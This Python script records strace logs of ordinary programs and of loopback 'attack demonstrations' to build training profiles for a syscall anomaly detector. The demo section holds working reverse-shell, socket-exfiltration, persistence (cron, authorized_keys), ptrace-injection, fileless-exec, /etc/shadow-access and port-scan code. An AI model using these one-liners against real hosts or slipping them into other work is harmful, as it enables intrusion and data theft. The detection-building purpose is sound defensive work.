"""Records real programs under ``strace -f`` and refits the synthetic profiles.

Two steps, each runnable alone:

  record  runs every profile's programs (shell loops, coreutils, tar and gzip,
          gcc, make, python3, an http.server on loopback with a client,
          sqlite3, git, vi in ex mode, dpkg/apt-cache queries, a cron-like
          maintenance script, find/grep) and the harmless attack
          demonstrations (loopback only, temporary files) in a scratch
          folder, writing raw logs to cache/recordings/ (not committed);
  fit     parses the logs with the project's strace reader, cuts each process
          into start-up, work loop and shutdown, and writes one table per
          profile to sentinel_jax/data/profiles/<profile>.json, plus
          attack_observations.json: the tagged events each demonstration
          really made, which tests hold the attack motifs against.

Usage:
  python scripts/record_profiles.py            # record, then fit
  python scripts/record_profiles.py fit        # refit from cached recordings
  python scripts/record_profiles.py record --repeats 3

Requires strace (and ptrace permission) for ``record``.
"""

from __future__ import annotations

import argparse
import collections
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path

import numpy as np
from strace_tools import (
    current_tracer,
    free_port,
    serving,
    stop,
    with_listener,
    write_files,
)

from sentinel_jax.atomic import write_json_atomic
from sentinel_jax.data.synthetic_profiles import (
    PHASES,
    PROFILE_FORMAT,
    PROFILE_VERSION,
    format_token,
)

logger = logging.getLogger("record_profiles")

ROOT = Path(__file__).resolve().parent.parent
RECORDINGS = ROOT / "cache" / "recordings"
# Programs run in a scratch folder outside /tmp: under /tmp every dot file
# (.git, vim's swap files) would be tagged hidden_write, which real work in a
# home or project folder is not.
SCRATCH = ROOT / "cache" / "scratch"
PROFILE_DIR = ROOT / "sentinel_jax" / "data" / "profiles"
# The interpreter itself, not a version-manager shim that would add a shell
# script's calls to every Python recording.
PYTHON = os.path.realpath(sys.executable)

# Start-up ends at the last of these calls among a process's first events:
# the dynamic loader's and libc's initialisation.
STARTUP_MARKERS = frozenset({
    "execve", "arch_prctl", "set_tid_address", "set_robust_list", "rseq",
    "prlimit64", "mprotect", "brk", "mmap", "access", "pread64"})
STARTUP_SCAN = 120
# Shutdown is the trailing run of these calls (closing up and exiting).
SHUTDOWN_CALLS = frozenset({
    "close", "munmap", "exit_group", "exit", "fsync", "fdatasync", "wait4",
    "rt_sigaction", "rt_sigprocmask", "unlink", "flush", "lseek", "fcntl",
    "rt_sigreturn", "madvise"})
SHUTDOWN_MAX = 24
# Verbatim excerpts of the recorded processes kept in each table, for the
# generator to replay next to Markov samples: at most this many events per
# process and per profile (the committed tables stay small).
EXCERPT_EVENTS = 600
EXCERPTS_PER_PROFILE = 9_000

HELLO_C = textwrap.dedent("""\
    #include <stdio.h>
    #include <stdlib.h>
    static int fib(int n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }
    int main(int argc, char **argv) {
        int n = argc > 1 ? atoi(argv[1]) : 20;
        printf("fib(%d) = %d\\n", n, fib(n));
        return 0;
    }
    """)

CRON_SCRIPT = textwrap.dedent("""\
    #!/bin/sh
    # nightly maintenance, as a cron job would run it
    set -e
    LOG="$1/maint.log"
    date >> "$LOG"
    find "$1/data" -name '*.tmp' -mmin +0 -delete
    tar -C "$1" -czf "$1/backup-$2.tar.gz" data
    ls -1 "$1"/backup-*.tar.gz | sort | head -n -2 | xargs -r rm -f
    du -s "$1/data" >> "$LOG"
    gzip -kf "$LOG"
    """)


def _strace(log: Path, argv: Sequence[str], cwd: Path, follow: bool = True,
            env: dict[str, str] | None = None, timeout: float = 60.0,
            stdin: str | None = None) -> None:
    """Runs ``argv`` under the current tracer, writing its log to ``log``."""
    current_tracer().run(log, argv, cwd, follow=follow, env=env,
                         timeout=timeout, stdin=stdin)


# ---------------------------------------------------------------- profiles
# Each recipe takes (log, scratch folder, repeat index) and records one run;
# the repeat index varies sizes and counts so runs differ as real ones do.

Recipe = Callable[[Path, Path, int], None]


def _shell(log: Path, work: Path, k: int) -> None:
    shell = "bash" if k % 2 else "sh"
    script = (f"for i in $(seq 1 {5 + 4 * k}); do x=$((i * 3)); "
              f"echo \"$x\" > f$i; cat f$i > /dev/null; test -f f$i && rm f$i; "
              f"done; ls -la > list.txt; wc -l list.txt; pwd; date")
    _strace(log, [shell, "-c", script], work)


def _coreutils(log: Path, work: Path, k: int) -> None:
    write_files(work / "in", 4 + k, 200)
    script = ("ls -la in; cp -r in out; cat out/*.txt | sort | uniq -c | head; "
              "wc -c in/*; mv out/file0.txt out/moved.txt; du -sh out; id; "
              "stat in/file1.txt; rm -rf out")
    _strace(log, ["sh", "-c", script], work)


def _archiver(log: Path, work: Path, k: int) -> None:
    write_files(work / "data", 6 + 3 * k, 2000)
    script = ("tar -cf a.tar data && gzip -f a.tar && gzip -t a.tar.gz && "
              "mkdir -p x && tar -C x -xzf a.tar.gz && tar -tzf a.tar.gz | wc -l"
              " && rm -rf x a.tar.gz")
    _strace(log, ["sh", "-c", script], work)


def _compiler(log: Path, work: Path, k: int) -> None:
    (work / "hello.c").write_text(HELLO_C)
    (work / "extra.c").write_text("int extra(int x) { return x + 1; }\n")
    flags = ["-O0", "-O2", "-g", "-Wall"][k % 4]
    extra = " && gcc -c extra.c && gcc -shared -fPIC -o libextra.so extra.c" \
        if k % 2 else ""
    _strace(log, ["sh", "-c", f"gcc {flags} -o hello hello.c{extra} && "
                  f"./hello {10 + k}"], work)


def _build(log: Path, work: Path, k: int) -> None:
    (work / "hello.c").write_text(HELLO_C)
    for index in range(2 + k % 3):
        (work / f"part{index}.c").write_text(
            f"int part{index}(int x) {{ return x * {index + 2}; }}\n")
    parts = " ".join(f"part{index}.o" for index in range(2 + k % 3))
    (work / "Makefile").write_text(
        f"hello: hello.o {parts}\n\tcc -o $@ $^\n"
        "%.o: %.c\n\tcc -c -O1 $< -o $@\n"
        "clean:\n\trm -f hello *.o\n")
    jobs = "-j2 " if k % 2 else ""
    _strace(log, ["sh", "-c", f"make -s {jobs}&& ./hello {k + 5} && make -s clean"],
            work)


def _python(log: Path, work: Path, k: int) -> None:
    write_files(work / "in", 3 + k, 400)
    code = textwrap.dedent(f"""\
        import json, os, collections, random, math
        counts = collections.Counter()
        for name in sorted(os.listdir("in")):
            with open(os.path.join("in", name)) as f:
                counts.update(f.read().split())
        random.seed({k})
        data = [math.sqrt(random.random()) for _ in range({20000 * (k + 1)})]
        with open("out.json", "w") as f:
            json.dump({{"counts": counts, "mean": sum(data) / len(data)}}, f)
        print(len(counts))
        """)
    _strace(log, [PYTHON, "-c", code], work)


def _web_server(log: Path, work: Path, k: int) -> None:
    write_files(work / "site", 3 + k, 3000)
    port = free_port()
    server = current_tracer().start(
        log, [PYTHON, "-m", "http.server", str(port), "--bind", "127.0.0.1",
              "--directory", str(work / "site")], work)
    try:
        client = textwrap.dedent(f"""\
            import time, urllib.request
            for attempt in range(100):
                try:
                    urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=2)
                    break
                except OSError:
                    time.sleep(0.1)
            for i in range({4 + 3 * k}):
                for path in ("/", "/file%d.txt" % (i % {3 + k}), "/missing"):
                    try:
                        urllib.request.urlopen("http://127.0.0.1:{port}" + path,
                                               timeout=5).read()
                    except OSError:
                        pass
            """)
        subprocess.run([sys.executable, "-c", client], timeout=60, check=False)
    finally:
        stop(server)


def _database(log: Path, work: Path, k: int) -> None:
    rows = 20 + 30 * k
    script = "\n".join([
        "CREATE TABLE IF NOT EXISTS t(id INTEGER PRIMARY KEY, name TEXT, v REAL);",
        "BEGIN;",
        *[f"INSERT INTO t(name, v) VALUES ('n{i}', {i * 0.5});" for i in range(rows)],
        "COMMIT;",
        "CREATE INDEX IF NOT EXISTS tv ON t(v);",
        "SELECT count(*), avg(v) FROM t WHERE v > 3;",
        "UPDATE t SET v = v * 2 WHERE id % 3 = 0;",
        "DELETE FROM t WHERE id % 7 = 0;",
        "SELECT name FROM t ORDER BY v DESC LIMIT 5;",
        ".tables", ""])
    _strace(log, ["sqlite3", "db.sqlite"], work, stdin=script)


def _editor(log: Path, work: Path, k: int) -> None:
    write_files(work, 2 + k, 1500)
    editor = ["vi", "vim", "ex"][k % 3]
    commands = ["-c", "%s/alpha/ALPHA/g", "-c", "g/error/d", "-c", "$put ='end'",
                "-c", "wq"]
    _strace(log, [editor, "-es", "-u", "NONE", *commands, "file0.txt"], work,
            env={**os.environ, "HOME": str(work), "TERM": "dumb"})


def _package_manager(log: Path, work: Path, k: int) -> None:
    queries = [["dpkg", "-l"], ["dpkg", "-S", "/bin/ls"],
               ["apt-cache", "policy", "bash"], ["apt-cache", "show", "coreutils"],
               ["dpkg-query", "-W", "-f=${Package} ${Version}\\n"],
               ["apt-cache", "depends", "tar"]]
    argv = queries[k % len(queries)]
    _strace(log, ["sh", "-c", " ".join(f"'{a}'" for a in argv) + " > out.txt"],
            work)


def _cron_job(log: Path, work: Path, k: int) -> None:
    write_files(work / "data", 3 + 2 * k, 800)
    (work / "maint.sh").write_text(CRON_SCRIPT)
    _strace(log, ["sh", str(work / "maint.sh"), str(work), str(k)], work)


def _vcs(log: Path, work: Path, k: int) -> None:
    write_files(work / "repo", 3 + k, 300)
    script = ("cd repo && git init -q && git add -A && "
              "git -c user.name=a -c user.email=a@b commit -qm init && "
              "echo change >> file0.txt && git diff --stat && git status -s && "
              "git -c user.name=a -c user.email=a@b commit -qam two && "
              "git log --oneline | head")
    env = {**os.environ, "HOME": str(work), "GIT_CONFIG_NOSYSTEM": "1"}
    _strace(log, ["sh", "-c", script], work, env=env)


def _search(log: Path, work: Path, k: int) -> None:
    write_files(work / "tree" / "a", 4 + k, 500)
    write_files(work / "tree" / "b", 3 + k, 500)
    script = ("find tree -type f -name '*.txt' | head -n 20; "
              "grep -rn error tree | wc -l; grep -rl gamma tree | sort; "
              "find /usr/share/doc -maxdepth 1 -name 't*' | head -n 5")
    _strace(log, ["sh", "-c", script], work)


def _threaded(log: Path, work: Path, k: int) -> None:
    # futex, clone3 and worker threads: sort --parallel, xz -T2, python threads.
    write_files(work / "data", 8 + 2 * k, 20_000)
    if k % 3 == 0:
        script = ("cat data/*.txt | tr ' ' '\\n' > words.txt && "
                  "sort --parallel=2 -S 4M words.txt | uniq -c | sort -rn "
                  "--parallel=2 | head -3")
        _strace(log, ["sh", "-c", script], work)
    elif k % 3 == 1:
        script = "tar -cf d.tar data && xz -T2 -k -3 d.tar && xz -T2 -dc " \
                 "d.tar.xz | wc -c && rm -f d.tar d.tar.xz"
        _strace(log, ["sh", "-c", script], work)
    else:
        code = textwrap.dedent(f"""\
            import pathlib, queue, threading, zlib
            jobs, sizes = queue.Queue(), []
            lock = threading.Lock()
            def work():
                while (path := jobs.get()) is not None:
                    packed = zlib.compress(path.read_bytes(), 6)
                    path.with_suffix(".z").write_bytes(packed)
                    with lock:
                        sizes.append(len(packed))
            workers = [threading.Thread(target=work) for _ in range({2 + k % 3})]
            for worker in workers:
                worker.start()
            for path in sorted(pathlib.Path("data").glob("*.txt")):
                jobs.put(path)
            for _ in workers:
                jobs.put(None)
            for worker in workers:
                worker.join()
            print(sum(sizes))
            """)
        _strace(log, [PYTHON, "-c", code], work)


def _http_client(log: Path, work: Path, k: int) -> None:
    # Clients on loopback (poll, connect, sendto/recvfrom): wget, python's
    # http.client on one kept-alive connection, an asyncio client.
    write_files(work / "site", 4, 3000)
    with serving(work / "site") as port:
        count = 4 + 2 * k
        if k % 3 == 0:
            script = (f"for i in $(seq 0 {count}); do wget -q -O page$i "
                      f"http://127.0.0.1:{port}/file$((i % 4)).txt; done; "
                      f"wget -q -O - http://127.0.0.1:{port}/missing || true; "
                      f"cat page* | wc -c")
            _strace(log, ["sh", "-c", script], work)
            return
        if k % 3 == 1:
            code = textwrap.dedent(f"""\
                import http.client
                conn = http.client.HTTPConnection("127.0.0.1", {port}, timeout=5)
                total = 0
                for i in range({count}):
                    conn.request("GET", f"/file{{i % 4}}.txt")
                    total += len(conn.getresponse().read())
                conn.close()
                print(total)
                """)
        else:
            code = textwrap.dedent(f"""\
                import asyncio
                async def fetch(i):
                    r, w = await asyncio.open_connection("127.0.0.1", {port})
                    w.write(f"GET /file{{i % 4}}.txt HTTP/1.0\\r\\n\\r\\n".encode())
                    data = await r.read()
                    w.close()
                    await w.wait_closed()
                    return len(data)
                async def main():
                    print(sum(await asyncio.gather(*(fetch(i)
                                                     for i in range({count})))))
                asyncio.run(main())
                """)
        _strace(log, [PYTHON, "-c", code], work)


def _process_monitor(log: Path, work: Path, k: int) -> None:
    # Legitimate reads of other processes' /proc files, as top and pgrep make.
    if k % 2 == 0:
        script = ("top -b -n1 | head -12; pgrep -c sleep || true; "
                  "cat /proc/loadavg /proc/meminfo | head -4")
        _strace(log, ["sh", "-c", script], work)
        return
    code = textwrap.dedent("""\
        import os
        rows = []
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                with open(f"/proc/{entry}/stat") as f:
                    fields = f.read().split()
                with open(f"/proc/{entry}/status") as f:
                    rss = [l for l in f if l.startswith("VmRSS")]
            except OSError:
                continue
            rows.append((fields[1], rss[0].split()[1] if rss else "0"))
        print(len(rows), sorted(rows)[:3])
        """)
    _strace(log, [PYTHON, "-c", code], work)


ADMIN_SCRIPT = textwrap.dedent("""\
    #!/bin/sh
    # deploy a small tool into a staging tree, as an install script would
    set -eu
    root="$1/stage"
    mkdir -p "$root/bin" "$root/etc" "$root/share/doc" "$root/var/log"
    printf '#!/bin/sh\\necho tool\\n' > "$1/tool.sh"
    install -m 755 "$1/tool.sh" "$root/bin/tool"
    printf 'level=%s\\n' "$2" > "$root/etc/tool.conf"
    chmod 640 "$root/etc/tool.conf"
    chown "$(id -u):$(id -g)" "$root/etc/tool.conf"
    cp -p "$1/tool.sh" "$root/share/doc/example"
    ln -sf ../bin/tool "$root/share/tool"
    find "$root" -type d -exec chmod 755 {} +
    find "$root" -type f -name '*.conf' | xargs chmod g-w
    touch "$root/var/log/tool.log" && chmod 600 "$root/var/log/tool.log"
    "$root/bin/tool" >> "$root/var/log/tool.log"
    "$3" -c 'import sys; print(sys.argv[1])' "$root" > /dev/null
    ls -lR "$root" | wc -l
    rm -rf "$root"
    """)


def _admin_script(log: Path, work: Path, k: int) -> None:
    # chmod, chown, install and symlinks in a scratch tree; an interpreter run
    # from a script.
    (work / "deploy.sh").write_text(ADMIN_SCRIPT)
    shell = "bash" if k % 2 else "sh"
    _strace(log, [shell, str(work / "deploy.sh"), str(work), str(k), PYTHON],
            work)


PROFILES: dict[str, tuple[str, Recipe]] = {
    "admin_script": ("a staging install: mkdir, install, chmod, chown, ln",
                     _admin_script),
    "archiver": ("tar and gzip packing and unpacking a folder", _archiver),
    "build": ("make (and make -j2) driving cc on a small C project", _build),
    "compiler": ("gcc compiling and running a small C program", _compiler),
    "coreutils": ("ls, cp, cat, sort, wc, mv, du, stat, rm in a shell", _coreutils),
    "cron_job": ("a nightly maintenance script: find, tar, gzip, rotation",
                 _cron_job),
    "database": ("sqlite3 running inserts, an index, queries, updates", _database),
    "editor": ("vi/vim/ex in ex mode editing a file", _editor),
    "http_client": ("wget, http.client and asyncio clients on loopback",
                    _http_client),
    "interactive_python": ("python3 reading files and computing", _python),
    "package_manager": ("dpkg and apt-cache queries", _package_manager),
    "process_monitor": ("top, pgrep and a /proc walker", _process_monitor),
    "search": ("find and grep over a tree", _search),
    "shell": ("sh and bash loops over small files", _shell),
    "threaded": ("sort --parallel, xz -T2 and python worker threads", _threaded),
    "vcs": ("git init, add, commit, diff, status, log", _vcs),
    "web_server": ("python3 -m http.server on loopback serving a client",
                   _web_server),
}


# ------------------------------------------------------------ attack demos
# Harmless, real versions of attack behaviour: loopback sockets, temporary
# files, a child process of our own. Their tagged events check the motifs.

def _demo_reverse_shell_bash(log: Path, work: Path) -> None:
    with_listener(b"id\nexit\n", lambda port: _strace(
        log, ["bash", "-c", f"sh -i < /dev/tcp/127.0.0.1/{port} "
              f"> /dev/tcp/127.0.0.1/{port} 2>&1 || exec 3<>/dev/tcp/127.0.0.1/"
              f"{port}; sh <&3 >&3 2>&3"], work, timeout=30))


def _demo_reverse_shell_python(log: Path, work: Path) -> None:
    code = ("import os,socket,subprocess;s=socket.socket();"
            "s.connect(('127.0.0.1',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
            "subprocess.call(['/bin/sh','-i'])")
    with_listener(b"id\nexit\n", lambda port: _strace(
        log, [PYTHON, "-c", code.format(port=port)], work, timeout=30))


def _demo_exfiltration(log: Path, work: Path) -> None:
    (work / "secret.txt").write_text("not really a secret\n" * 200)
    code = ("import socket;s=socket.create_connection(('127.0.0.1',{port}));"
            "f=open('secret.txt','rb');[s.sendall(b) for b in iter(lambda: "
            "f.read(512), b'')];s.close()")
    with_listener(b"", lambda port: _strace(
        log, [PYTHON, "-c", code.format(port=port)], work, timeout=30))


def _demo_credential_open(log: Path, work: Path) -> None:
    # Opens and closes /etc/shadow and reads a temporary copy of /etc/passwd;
    # with -s 0 nothing read ends up in the log.
    code = ("import os\nfor p in ('/etc/shadow', '/etc/passwd'):\n"
            "    try:\n        os.close(os.open(p, os.O_RDONLY))\n"
            "    except OSError:\n        pass\n")
    _strace(log, [PYTHON, "-c", code], work)


def _demo_wx_memory(log: Path, work: Path) -> None:
    code = ("import mmap;m=mmap.mmap(-1,4096,prot=mmap.PROT_READ|mmap.PROT_WRITE|"
            "mmap.PROT_EXEC);m.write(b'\\xc3');m.close()")
    _strace(log, [PYTHON, "-c", code], work)


def _demo_ptrace(log: Path, work: Path) -> None:
    # Attaches to our own sleeping child and pokes one word of its stack
    # area; strace follows only the injector (a traced child cannot be
    # attached twice).
    code = textwrap.dedent("""\
        import ctypes, os, signal, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
                                ctypes.c_void_p]
        child = subprocess.Popen(["sleep", "5"])
        libc.ptrace(16, child.pid, None, None)           # PTRACE_ATTACH
        os.waitpid(child.pid, 0)
        regs = (ctypes.c_ulonglong * 27)()
        libc.ptrace(12, child.pid, None, ctypes.byref(regs))   # GETREGS
        address = ctypes.c_void_p(regs[19] - 64)              # below rsp
        word = libc.ptrace(2, child.pid, address, None)        # PEEKDATA
        libc.ptrace(5, child.pid, address, ctypes.c_void_p(word))  # POKEDATA
        libc.ptrace(17, child.pid, None, None)           # PTRACE_DETACH
        child.send_signal(signal.SIGKILL)
        child.wait()
        """)
    _strace(log, [PYTHON, "-c", code], work, follow=False)


def _demo_persistence(log: Path, work: Path) -> None:
    cron = work / "etc" / "cron.d"
    script = (f"mkdir -p {cron} {work}/.ssh && "
              f"echo '* * * * * root /tmp/.x' > {cron}/job && "
              f"echo 'ssh-ed25519 AAAA test' >> {work}/.ssh/authorized_keys && "
              f"chmod 600 {work}/.ssh/authorized_keys")
    _strace(log, ["sh", "-c", script], work)


def _demo_tampering(log: Path, work: Path) -> None:
    (work / "tool").write_text("#!/bin/sh\necho ok\n")
    (work / ".bash_history").write_text("ls\n")
    script = ("cp tool tool.new && echo 'echo owned' >> tool.new && "
              "mv tool.new tool && touch -d '2001-01-01 00:00' tool && "
              ": > .bash_history && rm -f .bash_history")
    _strace(log, ["sh", "-c", script], work)


def _demo_fileless(log: Path, work: Path) -> None:
    code = ("import os;fd=os.memfd_create('x');"
            "os.write(fd,open('/bin/true','rb').read());"
            "os.execv('/proc/self/fd/%d'%fd,['x'])")
    _strace(log, [PYTHON, "-c", code], work)


def _demo_setuid(log: Path, work: Path) -> None:
    code = ("import os\ntry:\n    os.setresuid(0,0,0); os.setgid(0)\n"
            "except OSError:\n    pass\nos.execv('/bin/sh',['sh','-c','id'])")
    _strace(log, [PYTHON, "-c", code], work)


def _demo_port_scan(log: Path, work: Path) -> None:
    code = ("import socket\nfor port in range(40000, 40040):\n"
            "    s=socket.socket(); s.settimeout(0.2)\n"
            "    s.connect_ex(('127.0.0.1', port)); s.close()")
    _strace(log, [PYTHON, "-c", code], work)


# TODO: keylogging (/dev/input), kernel modules, and writes to /etc, /proc/sys
# or system binaries are not demonstrated: they are not harmless on a shared
# machine. Their motifs are held to the strace reader by golden lines in
# tests/test_synthetic.py instead; a throw-away VM could record them for real.
ATTACK_DEMOS: dict[str, tuple[str, str, Callable[[Path, Path], None]]] = {
    "reverse_shell_bash": ("lateral_movement", "shell", _demo_reverse_shell_bash),
    "reverse_shell_python": ("lateral_movement", "python",
                             _demo_reverse_shell_python),
    "exfiltration_python": ("network_exfiltration", "python", _demo_exfiltration),
    "credential_open": ("privilege_escalation", "python", _demo_credential_open),
    "wx_memory": ("process_injection", "python", _demo_wx_memory),
    "ptrace_poke": ("process_injection", "c", _demo_ptrace),
    "persistence_files": ("persistence_mechanism", "shell", _demo_persistence),
    "tampering": ("file_tampering", "shell", _demo_tampering),
    "fileless_exec": ("crypto_mining", "python", _demo_fileless),
    "setuid_shell": ("privilege_escalation", "python", _demo_setuid),
    "port_scan": ("lateral_movement", "python", _demo_port_scan),
}


def record(repeats: int, only: Iterable[str] | None = None) -> None:
    """Runs every profile's recipe ``repeats`` times and every attack demo."""
    if shutil.which("strace") is None:
        raise SystemExit("record needs strace on PATH")
    wanted = set(only or PROFILES) | (set(only or ATTACK_DEMOS))
    SCRATCH.mkdir(parents=True, exist_ok=True)
    for name, (_, recipe) in PROFILES.items():
        if name not in wanted:
            continue
        for k in range(repeats):
            with tempfile.TemporaryDirectory(prefix=f"rec-{name}-",
                                             dir=SCRATCH) as scratch:
                log = RECORDINGS / "profiles" / name / f"run{k}.strace"
                started = time.perf_counter()
                try:
                    recipe(log, Path(scratch), k)
                except (RuntimeError, subprocess.SubprocessError, OSError) as error:
                    logger.warning("%s run %d failed: %s", name, k, error)
                    continue
                logger.info("recorded %s run %d in %.1fs", name, k,
                            time.perf_counter() - started)
    for name, (_, _, demo) in ATTACK_DEMOS.items():
        if name not in wanted:
            continue
        with tempfile.TemporaryDirectory(prefix=f"rec-{name}-",
                                         dir=SCRATCH) as scratch:
            log = RECORDINGS / "attacks" / f"{name}.strace"
            try:
                demo(log, Path(scratch))
            except (RuntimeError, subprocess.SubprocessError, OSError) as error:
                logger.warning("attack demo %s failed: %s", name, error)
                continue
            logger.info("recorded attack demo %s", name)


# --------------------------------------------------------------------- fit

def _read_processes(log: Path) -> list[tuple[list[str], list[int]]]:
    """(names, tag masks) of each process in an strace log, via the reader."""
    from sentinel_jax.data.strace import read_strace_traces

    processes = []
    for trace in read_strace_traces(log):
        if len(trace):
            processes.append((list(trace.names), [int(m) for m in trace.tags]))
    return processes


def split_phases(names: Sequence[str]) -> tuple[int, int]:
    """(end of start-up, start of shutdown) of one process's calls.

    Start-up runs to the last loader or libc-initialisation call among the
    first ``STARTUP_SCAN`` events (and never past the middle); shutdown is the
    trailing run of closing and exiting calls, at most ``SHUTDOWN_MAX``
    events. A process too short to have a loop gets a one-event loop.
    """
    length = len(names)
    scan = min(STARTUP_SCAN, length // 2)
    startup_end = 0
    for index in range(scan):
        if names[index] in STARTUP_MARKERS:
            startup_end = index + 1
    shutdown_start = length
    while (shutdown_start > startup_end + 1 and length - shutdown_start < SHUTDOWN_MAX
           and names[shutdown_start - 1] in SHUTDOWN_CALLS):
        shutdown_start -= 1
    if shutdown_start == length:
        shutdown_start = length - 1
    startup_end = max(1, min(startup_end, shutdown_start - 1))
    return startup_end, shutdown_start


def _length_stats(lengths: Sequence[int]) -> dict[str, float]:
    values = np.maximum(np.asarray(lengths, dtype=np.float64), 1.0)
    logs = np.log(values)
    return {"median": round(float(np.exp(np.median(logs))), 3),
            "log_std": round(float(max(logs.std(), 0.1)), 4),
            "min": int(values.min()), "max": int(values.max())}


def fit_profile(name: str, description: str, logs: Sequence[Path]) -> dict:
    """Fits one profile table from its recordings."""
    token_index: dict[str, int] = {}
    starts = {phase: collections.Counter() for phase in PHASES}
    transitions = {phase: collections.Counter() for phase in PHASES}
    lengths: dict[str, list[int]] = {phase: [] for phase in PHASES}
    processes = 0
    events = 0
    recorded: list[list[int]] = []
    for log in logs:
        for names, masks in _read_processes(log):
            if len(names) < 3:
                continue
            processes += 1
            events += len(names)
            tokens = [token_index.setdefault(format_token(n, m), len(token_index))
                      for n, m in zip(names, masks, strict=True)]
            recorded.append(tokens)
            startup_end, shutdown_start = split_phases(names)
            bounds = {"startup": (0, startup_end),
                      "loop": (startup_end, shutdown_start),
                      "shutdown": (shutdown_start, len(tokens))}
            for phase, (begin, end) in bounds.items():
                segment = tokens[begin:end]
                if not segment:
                    continue
                lengths[phase].append(len(segment))
                starts[phase][segment[0]] += 1
                transitions[phase].update(zip(segment, segment[1:], strict=False))
    if not processes:
        raise ValueError(f"profile {name}: no usable processes in {len(logs)} logs")
    return {
        "format": PROFILE_FORMAT, "version": PROFILE_VERSION, "name": name,
        "description": description,
        "fitted_from": {"logs": len(logs), "processes": processes, "events": events},
        "tokens": list(token_index),
        "phases": {phase: {
            "lengths": _length_stats(lengths[phase] or [1]),
            "start": sorted([t, c] for t, c in starts[phase].items()),
            "transitions": sorted([a, b, c] for (a, b), c in
                                  transitions[phase].items()),
        } for phase in PHASES},
        "excerpts": choose_excerpts(recorded, name),
    }


def choose_excerpts(processes: Sequence[Sequence[int]], name: str
                    ) -> list[str]:
    """Verbatim stretches of recorded processes: real order beyond one step.

    Processes are visited in a seeded random order; each gives all its
    events, or a stretch of ``EXCERPT_EVENTS`` at a random place when longer,
    until the profile holds ``EXCERPTS_PER_PROFILE`` events. An excerpt is
    written as one string of token indices separated by spaces, so that the
    table stays one line per excerpt.
    """
    rng = np.random.default_rng(sum(map(ord, name)))
    excerpts, total = [], 0
    for index in rng.permutation(len(processes)):
        if total >= EXCERPTS_PER_PROFILE:
            break
        process = processes[index]
        begin = int(rng.integers(0, max(len(process) - EXCERPT_EVENTS, 0) + 1))
        excerpt = process[begin:begin + EXCERPT_EVENTS]
        excerpts.append(" ".join(map(str, excerpt)))
        total += len(excerpt)
    return excerpts


def fit() -> None:
    """Refits every profile table and the attack observations from the cache."""
    for name, (description, _) in PROFILES.items():
        logs = sorted((RECORDINGS / "profiles" / name).glob("*.strace"))
        if not logs:
            logger.warning("no recordings for %s; keeping its table", name)
            continue
        table = fit_profile(name, description, logs)
        write_json_atomic(PROFILE_DIR / f"{name}.json", table)
        logger.info("fitted %s: %d tokens from %s", name, len(table["tokens"]),
                    table["fitted_from"])
    observations = {}
    for name, (family, variant, _) in ATTACK_DEMOS.items():
        log = RECORDINGS / "attacks" / f"{name}.strace"
        if not log.exists():
            continue
        tagged = collections.Counter()
        for names, masks in _read_processes(log):
            tagged.update(format_token(n, m) for n, m in zip(names, masks,
                                                              strict=True) if m)
        observations[name] = {"family": family, "variant": variant,
                              "tagged_events": dict(sorted(tagged.items()))}
    if observations:
        write_json_atomic(PROFILE_DIR / "attack_observations.json",
                          {"format": "sentinel_jax.attack_observations",
                           "demos": observations})


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("step", nargs="?", choices=("all", "record", "fit"),
                        default="all")
    parser.add_argument("--repeats", type=int, default=8,
                        help="recordings per profile (default 8)")
    parser.add_argument("--only", nargs="*", help="profiles or demos to record")
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")
    if args.step in ("all", "record"):
        record(args.repeats, args.only)
    if args.step in ("all", "fit"):
        fit()
    return 0


if __name__ == "__main__":
    sys.exit(main())
